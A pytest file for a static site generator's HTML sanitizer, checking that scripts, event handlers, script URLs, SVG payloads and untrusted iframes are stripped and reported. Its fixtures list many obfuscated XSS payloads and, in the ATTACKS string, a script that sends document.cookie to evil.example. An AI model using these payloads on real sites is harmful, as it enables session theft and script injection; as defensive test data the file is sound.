"""sitegen/sanitize.py: raw HTML in bodies made safe, and the author told what was removed."""

from __future__ import annotations

import re
import textwrap

import pytest

from sitegen.config import DEFAULT_EMBED_HOSTS
from sitegen.sanitize import NEEDS_SANITIZING, sanitize, url_scheme
from tests.conftest import SITE_YAML, post

HOSTS = frozenset(DEFAULT_EMBED_HOSTS)
TRUST_HINT = "(set markdown.raw_html: keep in site.yaml if every author is trusted)"


def clean(html: str) -> str:
    return sanitize(html, HOSTS)[0]


def removed(html: str) -> list[str]:
    return sanitize(html, HOSTS)[1]


def body_of(html: str) -> str:
    """The rendered body of a post page."""
    match = re.search(r'<div class="[^"]*\be-content\b[^"]*">(.*?)</article>', html, re.S)
    assert match, "no post body found"
    return match.group(1)


def warnings_of(report) -> list[str]:
    return [str(p) for p in report.problems if p.level == "warning"]


# ---- elements and attributes ----------------------------------------------------------------

def test_a_script_goes_with_its_content():
    assert sanitize("<p>a</p><script>alert(1)</script><p>b</p>", HOSTS) == (
        "<p>a</p><p>b</p>", ["<script>"])


@pytest.mark.parametrize("html", [
    '<p onclick="steal()">texte</p>',
    '<p ONCLICK="steal()">texte</p>',
    "<p onmouseover=steal()>texte</p>",
    '<p\nonfocus="steal()" tabindex="1">texte</p>',
])
def test_event_handlers_are_removed(html):
    out, what = sanitize(html, HOSTS)
    assert out == "<p>texte</p>"
    assert len(what) == 1 and what[0].endswith(" attribute")


def test_unknown_elements_are_unwrapped_and_unknown_attributes_dropped():
    assert clean('<form action="/x"><blink>a</blink><p align="x" data-n="1">b</p></form>') == \
        'a<p data-n="1">b</p>'


def test_only_plain_data_and_aria_attribute_names_are_kept():
    # HTMLParser hands over names with quotes in them, which other parsers may split.
    assert clean('<p data-a"onclick="alert(1)" data-ok="1" aria-x=y data-="z">t</p>') == \
        '<p data-ok="1" aria-x="y">t</p>'


def test_text_and_attribute_values_are_escaped_again():
    assert clean('<p title="a &quot;b&quot; &lt;c&gt;">1 &lt; 2 &amp; 3</p>') == \
        '<p title="a &quot;b&quot; &lt;c&gt;">1 &lt; 2 &amp; 3</p>'


def test_comments_and_declarations_are_dropped():
    assert clean("<!--[if IE]><script>x</script><![endif]--><p>a</p><!DOCTYPE html>") == "<p>a</p>"


@pytest.mark.parametrize("html", [
    "<svg><script>alert(1)</script><circle r='1'/></svg>",
    '<svg onload="alert(1)"><g/></svg>',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
])
def test_svg_and_math_are_removed_with_their_content(html):
    out = clean(html + "<p>après</p>")
    assert out == "<p>après</p>"


def test_nested_elements_of_the_same_kind_are_all_dropped():
    assert clean("<svg><svg></svg><script>x</script></svg><p>ok</p>") == "<p>ok</p>"


@pytest.mark.parametrize("tag", ["embed", "frame"])
def test_a_dropped_void_element_does_not_swallow_the_rest(tag):
    # These have no end tag: they used to start a removal that lasted to the end of the body.
    assert sanitize(f'<{tag} src="https://x.example/a.swf"><p>La suite.</p>', HOSTS) == (
        "<p>La suite.</p>", [f"<{tag}>"])


# ---- URLs -----------------------------------------------------------------------------------

@pytest.mark.parametrize("href", [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "\njavascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#0000058alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    " data:text/html,<script>alert(1)</script>",
])
def test_script_urls_are_removed_however_spelt(href):
    out, what = sanitize(f'<a href="{href}">lien</a>', HOSTS)
    assert out == "<a>lien</a>"
    assert len(what) == 1 and what[0].endswith(": URL")


@pytest.mark.parametrize("html", [
    '<img src="javascript:alert(1)" alt="x">',
    '<img srcset="a.png 1x, javascript:alert(1) 2x" alt="x">',
    '<video poster="data:image/svg+xml,<svg onload=alert(1)>"></video>',
    '<blockquote cite="javascript:alert(1)">c</blockquote>',
])
def test_every_url_attribute_is_checked(html):
    out = clean(html)
    assert "javascript" not in out and "data:" not in out


@pytest.mark.parametrize("href", [
    "https://example.org/", "http://example.org/a?b=c", "mailto:a@example.org",
    "tel:+33123456789", "/2025/03/velo/", "../velo/", "#note", "?page=2",
    "https://example.org/?q=javascript:alert(1)", "page.html#javascript:x",
])
def test_safe_urls_are_kept(href):
    assert clean(f'<a href="{href}">lien</a>') == f'<a href="{href}">lien</a>'


def test_url_scheme_reads_as_a_browser_does():
    assert url_scheme(" JAVA\tSCRIPT:x") == "javascript"
    assert url_scheme("/a:b") == ""
    assert url_scheme("a?b:c") == ""


# ---- iframes --------------------------------------------------------------------------------

def test_a_youtube_nocookie_iframe_is_kept():
    html = ('<iframe src="https://www.youtube-nocookie.com/embed/Xk3v9Qm7Lp0" width="560" '
            'allowfullscreen onload="x()"></iframe>')
    assert sanitize(html, HOSTS) == (
        '<iframe src="https://www.youtube-nocookie.com/embed/Xk3v9Qm7Lp0" width="560" '
        "allowfullscreen></iframe>", ["onload attribute"])


@pytest.mark.parametrize(("src", "host"), [
    ("https://evil.example/player", "evil.example"),
    ("https://www.youtube.com.evil.example/embed/x", "www.youtube.com.evil.example"),
    ("http://www.youtube.com/embed/x", "www.youtube.com"),  # not https
    ("https://evil.example/x#https://www.youtube.com/", "evil.example"),
    # Browsers read '\' as '/': this loads evil.example, though urlsplit sees youtube.com.
    ("https://evil.example\\@www.youtube.com/embed/x", "evil.example"),
    ("javascript:alert(1)", "an unknown host"),
    ("", "an unknown host"),
])
def test_iframes_from_other_hosts_are_removed_with_their_content(src, host):
    out, what = sanitize(f'<iframe src="{src}"><p>repli</p></iframe><p>après</p>', HOSTS)
    assert out == "<p>après</p>"
    assert what == [f"<iframe> from {host} (allow it in site.yaml markdown.embed_hosts)"]


def test_an_unclosed_foreign_iframe_drops_the_rest_rather_than_leak_it():
    assert clean('<p>a</p><iframe src="https://evil.example/"><p>b</p>') == "<p>a</p>"


# ---- raw HTML goes through the parser; what Markdown makes is checked on its tree -----------

@pytest.mark.parametrize("body", ["<b>gras</b>", "a <!-- c -->", "x </p>", "<?php x ?>"])
def test_raw_html_sends_a_body_through_the_sanitizer(body):
    assert NEEDS_SANITIZING.search(body)


@pytest.mark.parametrize("body", [
    "[x](javascript:alert(1))", "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](java\nscript:alert(1))", "[x](javascript\\:x)",
    "# Titre {: onclick='alert(1)' }", "Paragraphe\n{: onmouseover=alert(1) }",
    "[x](data:text/html,hi)", "[x](VBSCRIPT:x)", "![i](x.png){: onerror=alert(1) }",
    "# T {: style='position:fixed' }",
])
def test_markup_made_by_markdown_itself_is_made_safe(body):
    from sitegen.converting import Renderer
    from sitegen.markup import MarkupSettings

    rendered = Renderer(MarkupSettings("fr", sanitize=True)).render(body)
    assert_safe(rendered.html)
    assert "style=" not in rendered.html
    assert rendered.removed


@pytest.mark.parametrize(("body", "start"), [
    ("Bonjour :\n{:}", "<p>"),  # an attribute named ':' is of no use: dropped
    ("Texte\n{: data-x }", "<p data-x>"),  # a bare data attribute is harmless: kept
    ("# T {: hidden }", '<h1 hidden id="t">'),
])
def test_a_bare_key_of_attr_list_is_checked_like_any_attribute(body, start):
    """attr_list makes a key without '=' an attribute without a value ('{:}' one named ':')."""
    from sitegen.converting import Renderer
    from sitegen.markup import MarkupSettings

    assert Renderer(MarkupSettings("fr", sanitize=True)).render(body).html.startswith(start)


@pytest.mark.parametrize("body", [
    "Du texte : rien de plus !", "*emphase* et **gras**, [un lien](/a-propos/)",
    "- une liste\n- de mots",
])
def test_plain_prose_skips_the_sanitizer(body):
    assert not NEEDS_SANITIZING.search(body)


# ---- through a build ------------------------------------------------------------------------

ATTACKS = """\
Avant.

<script>document.location='https://evil.example/?c='+document.cookie</script>

<p onclick="steal()">Cliquez.</p>

<a href="JaVa&#x09;ScRiPt:alert(1)">piège</a>

<iframe src="https://evil.example/player"></iframe>

<iframe src="https://www.youtube-nocookie.com/embed/Xk3v9Qm7Lp0" allowfullscreen></iframe>

<svg><script>alert(2)</script></svg>

[lien](javascript:alert(3)) [entités](javascript&#58;alert(4)) [coupé](java
script:alert(5))

Un paragraphe piégé.
{: onmouseover="alert(6)" }

Après.
"""


def assert_safe(body: str) -> None:
    assert "<script" not in body.lower()
    assert not re.search(r"\son\w+\s*=", body, re.I)
    assert not re.search(r'(?:href|src)="\s*(?:java|vb)script', body, re.I)
    assert "javascript&#" not in body and "java\nscript" not in body
    assert "alert(" not in body


def test_a_build_removes_every_attack_and_says_so(make_site):
    site = make_site({"content/posts/piege.md": post("Piège", body=ATTACKS)})
    report = site.build()
    body = body_of(site.read("2025/03/piege/index.html"))
    assert_safe(body)
    assert "evil.example" not in body
    assert '<iframe src="https://www.youtube-nocookie.com/embed/Xk3v9Qm7Lp0"' in body
    assert "<p>Avant.</p>" in body and "<p>Après.</p>" in body
    assert sorted(warnings_of(report)) == sorted(
        f"content/posts/piege.md: warning: removed from the body: {what} {TRUST_HINT}"
        for what in ["<script>", "onclick attribute", "javascript: URL",
                     "<iframe> from evil.example (allow it in site.yaml markdown.embed_hosts)",
                     "<svg>", "onmouseover attribute"])


def test_the_feed_carries_the_sanitized_body_too(make_site):
    site = make_site({"content/posts/piege.md": post("Piège", body=ATTACKS)})
    site.build()
    feed = site.read("feed.json")
    assert "alert(" not in feed and "evil.example" not in feed


@pytest.mark.parametrize("link", [
    "[x](javascript:alert(1))", "[x](javascript&#58;alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))", "[x]( JAVASCRIPT:alert(1))", "![x](javascript&#58;alert(1))",
    "[x][r]\n\n[r]: javascript&colon;alert(1)", "[x](<java\nscript:alert(1)>)",
])
def test_a_markdown_link_to_a_script_is_neutralized(make_site, link):
    site = make_site({"content/posts/lien.md": post("Lien", body=link)})
    report = site.build()
    body = body_of(site.read("2025/03/lien/index.html"))
    assert_safe(body)
    assert warnings_of(report) == [
        f"content/posts/lien.md: warning: removed from the body: javascript: URL {TRUST_HINT}"]


def test_attribute_lists_cannot_add_event_handlers(make_site):
    site = make_site({"content/posts/attr.md": post("Attr", body=(
        "## Titre {: onclick='alert(1)' #ancre }\n\nTexte\n{: .classe onmouseover=alert(2) }"))})
    site.build()
    body = body_of(site.read("2025/03/attr/index.html"))
    assert_safe(body)
    assert 'id="ancre"' in body and 'class="classe"' in body


def test_raw_html_is_kept_when_the_site_trusts_its_authors(make_site):
    site_yaml = SITE_YAML + textwrap.dedent("""\
        markdown:
          raw_html: keep
        """)
    site = make_site({"content/posts/confiance.md": post("Confiance", body=(
        '<script>console.log("ok")</script>\n\n<p onclick="go()">Clic</p>\n\n'
        '<iframe src="https://maps.example/embed"></iframe>'))}, site_yaml)
    report = site.build()
    body = body_of(site.read("2025/03/confiance/index.html"))
    assert '<script>console.log("ok")</script>' in body
    assert 'onclick="go()"' in body
    assert '<iframe src="https://maps.example/embed">' in body
    assert warnings_of(report) == []


def test_embed_hosts_in_site_yaml_allow_more_iframes(make_site):
    site_yaml = SITE_YAML + textwrap.dedent("""\
        markdown:
          embed_hosts: [Maps.Example]
        """)
    site = make_site({"content/posts/carte.md": post("Carte", body=(
        '<iframe src="https://maps.example/embed?x=1"></iframe>\n\n'
        '<iframe src="https://www.youtube.com/embed/x"></iframe>'))}, site_yaml)
    report = site.build()
    body = body_of(site.read("2025/03/carte/index.html"))
    assert '<iframe src="https://maps.example/embed?x=1">' in body
    assert '<iframe src="https://www.youtube.com/embed/x">' in body
    assert warnings_of(report) == []


def test_style_attributes_are_removed_and_reported():
    html, removed = sanitize('<p style="position:fixed;inset:0">x</p>', frozenset())
    assert html == "<p>x</p>"
    assert removed == ["style attribute"]


def test_table_alignment_from_markdown_survives():
    html, removed = sanitize('<td style="text-align: center;">x</td>', frozenset())
    assert html == '<td style="text-align: center;">x</td>' and removed == []
    html, removed = sanitize('<td style="text-align: center; position: fixed">x</td>',
                             frozenset())
    assert html == "<td>x</td>" and removed == ["style attribute"]
